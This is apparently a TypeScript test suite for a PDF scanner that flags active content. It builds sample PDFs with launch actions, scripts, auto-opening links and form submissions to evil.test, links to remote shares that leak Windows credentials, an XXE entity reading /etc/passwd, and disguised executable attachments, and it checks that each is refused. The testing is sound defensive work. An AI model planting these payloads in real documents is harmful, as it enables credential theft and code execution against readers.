import type { PDFDocument } from '@cantoo/pdf-lib';
import { findActiveContent } from '../../src/pdf/active-content.ts';
import {
  annotated,
  attaching,
  catalogued,
  LAUNCH,
  made,
  packed,
  PACKED_PAGE,
  paged,
  SCRIPT,
  withField,
} from '../resources/policies/active-samples.ts';
import { deflatedOf, ONE_PAGE, pdfOf, streamOf } from '../resources/policies/pdf-samples.ts';

type Case = [string, string, () => Buffer | Promise<Buffer>];

const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(120), Buffer.from('PE\0\0')]);
const zipOf = (...names: string[]) => Buffer.from(names.map((name) => `PK\x03\x04\0\0${name}`).join('\0'), 'latin1');
const attach = (name: string, content: string) => (document: PDFDocument) =>
  document.attach(Buffer.from(content, 'latin1'), name, { mimeType: 'application/octet-stream' });

/** A chain of so many actions, each the next of the one before, and the last followed by `last`. */
const chain = (length: number, last: string) =>
  catalogued('/OpenAction 4 0 R', ...Array.from({ length }, (_, n) => `<</S/URI/URI(x:)/Next ${n + 5} 0 R>>`), last);

const actions: Case[] = [
  ['an action on opening that launches', 'Launch', () => catalogued(`/OpenAction${LAUNCH}`)],
  ['a link that launches', 'Launch', () => annotated(`/Subtype/Link/A${LAUNCH}`)],
  ['a link that launches for Windows alone', 'Launch', () => annotated('/Subtype/Link/A<</S/Launch/Win<</F(cmd)>>>>')],
  ['a bookmark that launches', 'Launch', () => catalogued('/Outlines<</First 4 0 R>>', `<</Title(x)/A${LAUNCH}>>`)],
  ['an action of a page', 'Launch', () => paged(`/AA<</O${LAUNCH}>>`)],
  ['an action of an annotation', 'Launch', () => annotated(`/Subtype/Screen/AA<</PV${LAUNCH}>>`)],
  ['an action of a field', 'Launch', () => withField(`/A${LAUNCH}`)],
  [
    'an action in an array of next ones',
    'Launch',
    () => catalogued(`/OpenAction<</S/URI/URI(x:)/Next[null ${LAUNCH}]>>`),
  ],
  ['an action at the end of a chain of 1,000', 'Launch', () => chain(1000, LAUNCH)],
  ['an action in a chain that is a circle', 'Launch', () => chain(3, '<</S/Launch/F(x)/Next 4 0 R>>')],
  ['a script on opening', 'JavaScript', () => catalogued(`/OpenAction${SCRIPT}`)],
  [
    'a script in a stream',
    'JavaScript',
    () => catalogued('/OpenAction<</S/JavaScript/JS 4 0 R>>', streamOf('', Buffer.from('x'))),
  ],
  ['a script of a name', 'JavaScript', () => catalogued('/Names<</JavaScript<</Names[(a)4 0 R]>>>>', SCRIPT)],
  ['a script that pdf-lib has put there', 'JavaScript', () => made((document) => document.addJavaScript('a', 'x()'))],
  ['a script of the document on closing', 'JavaScript', () => catalogued(`/AA<</WC${SCRIPT}>>`)],
  ['a script that checks a field', 'JavaScript', () => withField(`/AA<</K${SCRIPT}/V${SCRIPT}>>`)],
  ['a script of a rendition', 'JavaScript', () => annotated('/Subtype/Screen/A<</S/Rendition/OP 0/JS(x\\(\\))>>')],
  [
    'a script of a 3D model',
    'JavaScript',
    () => annotated('/Subtype/3D/3DD 5 0 R', streamOf('/Subtype/U3D/OnInstantiate 6 0 R', Buffer.from('x'))),
  ],
  ['an import of data', 'ImportData', () => withField('/A<</S/ImportData/F(data.fdf)>>')],
  ['an XFA form', 'XFA', () => catalogued('/AcroForm<</Fields[]/XFA 4 0 R>>', streamOf('', Buffer.from('<xdp/>')))],
  ['rich media', 'RichMedia', () => annotated('/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>')],
];

const URI = '<</S/URI/URI(https://evil.test/)>>';
const GO = '<</S/GoTo/D[3 0 R/Fit]>>';
const elsewhere: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
  ['opens a page of the Web', () => catalogued(`/OpenAction${URI}`)],
  ['opens a page of the Web in another object', () => catalogued('/OpenAction 4 0 R', URI)],
  ['opens a page of the Web after an action', () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>', URI)],
  [
    'opens a page of the Web after actions in arrays',
    () => catalogued('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[null[4 0 R]]>>', '[null 5 0 R]', `[${GO}${URI}]`),
  ],
  [
    'opens a page of the Web in a circle of actions',
    () => catalogued('/OpenAction 4 0 R', '<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R 5 0 R]>>', URI),
  ],
  ['opens a page of the Web from a stream of objects', () => packed([...PACKED_PAGE, URI])],
  ['opens another PDF', () => catalogued('/OpenAction<</S/GoToR/F(annex.pdf)/D[0/Fit]>>')],
  ['plays a film of another machine', () => catalogued('/OpenAction<</S/Rendition/OP 0/R<</S/MR/C<<>>>>>>')],
  ['opens a thread of another PDF', () => catalogued('/OpenAction<</S/Thread/F(annex.pdf)/D 0>>')],
  ['sends a form when a page is seen', () => paged('/AA<</O<</S/SubmitForm/F(https://evil.test/)>>>>')],
  ['opens a page of the Web when a page is seen', () => paged('/AA 4 0 R', '<</O 5 0 R>>', URI)],
  [
    'opens a page of the Web with a comment in its number',
    () =>
      Buffer.from(
        catalogued('/OpenAction 4 0 R', URI).toString('latin1').replace('4 0 obj', '4%x\n0 %\nobj'),
        'latin1',
      ),
  ],
];

test.each(elsewhere as [string, () => Buffer | Promise<Buffer>][])(
  'a PDF that %s without a click is refused',
  async (_case, make) => {
    expect(findActiveContent(await make())).toContain('leads elsewhere without a click');
  },
);

test('a long chain of actions that begins without a click is refused, also where it leads nowhere', () => {
  const links = Array.from({ length: 50 }, (_, n) => `<</S/GoTo/D[3 0 R/Fit]/Next ${n + 5} 0 R>>`);
  const file = catalogued('/OpenAction 4 0 R', ...links, 'null', URI);
  expect(findActiveContent(file)).toContain('a long chain of actions');
});

test.each<[string, string]>([
  ['a link to a share', '/A<</S/GoToR/F(\\\\\\\\evil.test\\\\x.pdf)>>'],
  ['a link to a share in slashes', '/A<</S/GoToR/F(//evil.test/x.pdf)>>'],
  ['a link to a share in octal', '/A<</S/GoToR/F(\\134\\134evil.test\\134x)>>'],
  ['a link to a share in Unicode', '/A<</S/GoToR/F<</UF<FEFF005C005C00650076>>>>>'],
  ['an address of a share', '/A<</S/URI/URI(file://evil.test/x.pdf)>>'],
  ['an address of a share in four slashes', '/A<</S/URI/URI( FILE:////evil.test/x)>>'],
  ['an address of a Windows share', '/A<</S/URI/URI(smb://evil.test/x)>>'],
  ['a search of a share', '/A<</S/URI/URI(search-ms:query=policy&crumb=location:\\\\evil.test\\x)>>'],
  ['a share in another object', '/A<</S/GoToR/F 5 0 R>>'],
])('%s is refused: Windows would tell it who opens the file', (_case, entries) => {
  const file = annotated(`/Subtype/Link${entries}`, '(\\\\\\\\evil.test\\\\x.pdf)');
  expect(findActiveContent(entries.includes('5 0 R') ? file : annotated(`/Subtype/Link${entries}`))).toContain(
    'on a server',
  );
});

test('a link with a script is refused', () => {
  expect(findActiveContent(annotated('/Subtype/Link/A<</S/URI/URI(JavaScript:alert\\(1\\))>>'))).toContain('script');
});

const attachments: Case[] = [
  ...[
    '<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>',
    '<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?><invoice/>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    ' <svg xmlns="http://www.w3.org/2000/svg"/>',
    '\xff\xfe' + Buffer.from('<a><script/></a>', 'utf16le').toString('latin1'),
  ].map((content): Case => [
    `markup that is more than data: ${content}`,
    'a web page, a script',
    () => attaching('(a.xml)', content),
  ]),

  ['a program', '.exe file', () => attaching('(setup.exe)', PROGRAM)],
  ['a program that is no program', '.exe file', () => attaching('(setup.exe)')],
  ['a program that pdf-lib has attached', '.exe file', () => made(attach('setup.exe', 'MZ'))],
  [
    'a program at an annotation',
    '.scr file',
    () => annotated('/Subtype/FileAttachment/FS<</F(a.scr)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  [
    'a program of the document',
    '.com file',
    () => catalogued('/AF[4 0 R]', '<</F(a.com)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  ...['js', 'vbs', 'bat', 'lnk', 'jar', 'zip', 'docm', 'xls', 'html', 'svg', 'swf', 'iso', 'bin'].map(
    (ending): Case => [`a file in .${ending}`, `.${ending} file`, () => attaching(`(a.${ending})`)],
  ),
  [
    'a second name',
    '.exe file',
    () => catalogued('/AF[4 0 R]', '<</F(a.txt)/DOS(a.exe)/EF<</F 5 0 R>>>>', streamOf('', PROGRAM)),
  ],
  ['a name in upper case', '.exe file', () => attaching('(a.EXE)')],
  ['a name in Unicode', '.exe file', () => attaching('<FEFF0061002E006500780065>')],
  ['a name in octal', '.exe file', () => attaching('(a.\\145x\\145)')],
  ['a name in hexadecimal', '.exe file', () => attaching('<61 2E 65 78 65>')],
  ['a name with a blank at its end', 'an unknown type', () => attaching('(a.exe )')],
  ['a name with a dot at its end', 'an unknown type', () => attaching('(a.exe.)')],
  ['a name that ends early for some', 'an unknown type', () => attaching('(a.exe\\000.txt)')],
  ['a name that begins with its dot', '.profile file', () => attaching('(.profile)')],
  ['a name of a stream of a file', 'an unknown type', () => attaching('(README:exe)')],
  ['a name in another object', 'name cannot be read', () => attaching(' 6 0 R')],
  ['no name', 'without a name', () => catalogued('/AF[4 0 R]', '<</EF<</F 5 0 R>>>>', streamOf('', PROGRAM))],
  ['a program that says it is text', 'is a program', () => attaching('(a.txt)', PROGRAM)],
  ['a program, unpacked, that says it is text', 'is a program', () => attaching('(a.txt)', PROGRAM, { pack: false })],
  ['a program of Linux that says it is text', 'is a program', () => attaching('(a.txt)', '\x7fELF\x02')],
  ['a script that says it is text', 'is a program', () => attaching('(a.txt)', '#!/bin/sh\n')],
  ['a document with macros', 'macros', () => attaching('(a.docx)', zipOf('word/document.xml', 'word/vbaProject.bin'))],
  ['a spreadsheet with macros', 'macros', () => attaching('(a.ods)', zipOf('content.xml', 'Basic/Standard/a.xml'))],
  ['a PDF that launches', 'Launch', () => attaching('(a.pdf)', catalogued(`/OpenAction${LAUNCH}`))],
  [
    'a PDF that launches, unpacked',
    'Launch',
    () => attaching('(a.pdf)', catalogued(`/OpenAction${LAUNCH}`), { pack: false }),
  ],
  [
    'a PDF with a PDF with a script',
    'JavaScript',
    () => attaching('(a.pdf)', attaching('(b.pdf)', catalogued(`/OpenAction${SCRIPT}`))),
  ],
];

test.each([...actions, ...attachments])('%s is found, and named', async (_case, name, make) => {
  expect(findActiveContent(await make())).toContain(name);
});

const link = (action: string) => annotated(`/Subtype/Link/A<<${action}>>`);
const annotatedAt = (entries: string, ...objects: string[]) => {
  const page = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[4 0 R]>>';
  const annotation = `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${URI}>>`;
  return pdfOf([`<</Type/Catalog/Pages 2 0 R${entries}>>`, ONE_PAGE[1]!, page, annotation, ...objects]);
};
const prose = 'BT (The entry /S /Launch or /JS \\(x\\) and << /S /Launch >> are refused) Tj ET';
const ordinary: Omit<Case, 1>[] | [string, () => Buffer | Promise<Buffer>][] = [
  ['a link to a page of the Web', () => link('/S/URI/URI(https://intranet.test/S/Launch/JavaScript/JS)')],
  ['a link in itself', () => link('/S/GoTo/D[3 0 R/Fit]')],
  ['a link to another PDF', () => link('/S/GoToR/F(annex.pdf)/D[0/Fit]')],
  ['a place where it opens, and a link', () => annotatedAt('/OpenAction 5 0 R', GO)],
  ['a page where it opens, and a link', () => annotatedAt('/OpenAction[3 0 R/Fit]')],
  ['a list that is where it opens, and a link', () => annotatedAt('/OpenAction 5 0 R', '[3 0 R/Fit]')],
  ['a link to a file of its reader', () => link('/S/URI/URI(file:///C:/policies/a.docx)')],
  ['a button to print', () => link('/S/Named/N/Print')],
  ['a form that is sent', () => withField('/A<</S/SubmitForm/F(mailto:hr@company.test)/Next<</S/ResetForm>>>>')],
  ['a place where it opens', () => catalogued('/OpenAction[3 0 R/XYZ 0 0 1]/PageMode/UseOutlines')],
  ['bookmarks', () => catalogued('/Outlines<</First 4 0 R/Count 1>>', '<</Title(One)/Dest[3 0 R/Fit]>>')],
  [
    'a form of pdf-lib',
    () => made((document) => document.getForm().createTextField('n').addToPage(document.getPage(0))),
  ],
  ['layers', () => catalogued('/OCProperties<</OCGs[4 0 R]/D<<>>>>', '<</Type/OCG/Name(Draft)>>')],
  ['a paragraph style that is called JavaScript', () => catalogued('', '<</Type/StructElem/S/JavaScript/P 1 0 R>>')],
  ['text about actions', () => paged('/Contents 4 0 R', streamOf('', Buffer.from(prose)))],
  ['text about actions in its title', () => catalogued('', `<</Title(${prose.replace('ET', ')')}>>`)],
  [
    'text about actions in its metadata',
    () => catalogued('/Metadata 4 0 R', streamOf('/Type/Metadata', Buffer.from(`<x>${prose}</x>`))),
  ],
  ['a colour profile', () => catalogued('', deflatedOf('/N 3/Alternate/DeviceRGB', Buffer.alloc(500)))],
  ['hints of a linearized file', () => catalogued('', deflatedOf('/S 36/O 60', Buffer.alloc(90)))],
  ['a 3D model', () => annotated('/Subtype/3D/3DD 5 0 R', streamOf('/Subtype/U3D', Buffer.from('U3D')))],
  ['no XFA form', () => catalogued('/AcroForm<</Fields[]/XFA null>>')],
  ['an invoice as data', () => made(attach('factur-x.xml', '<invoice/>'))],
  ['its source', () => attaching('(Richtlinie \\374ber E-Mail.odt)', zipOf('mimetype', 'content.xml'))],
  ['a document of Word', () => attaching('<FEFF0061002E0064006F00630078>', zipOf('word/document.xml'))],
  ['a table of countries', () => attaching('(countries.csv)', 'MZ;Mozambique\n')],
  ['a picture', () => attaching('(SEAL.PNG)', '\x89PNG\r\n')],
  ['a source of TeX', () => attaching('(formula-1.tex)', '\\\\(a^2\\\\)')],
  ['a file whose name has no ending', () => attaching('(README)')],
  ['an attached PDF', () => attaching('(annex.pdf)', pdfOf(ONE_PAGE))],
  [
    'an attached PDF, unpacked',
    () =>
      attaching('(annex.pdf)', pdfOf([...ONE_PAGE, '7', streamOf('/Filter/DCTDecode', Buffer.from('x'))]), {
        pack: false,
      }),
  ],
  ['an attached PDF of objects in streams', async () => attaching('(annex.pdf)', await made(() => undefined))],
];

test.each(ordinary as [string, () => Buffer | Promise<Buffer>][])('a PDF with %s is fine', async (_case, make) => {
  expect(findActiveContent(await make())).toBeUndefined();
});
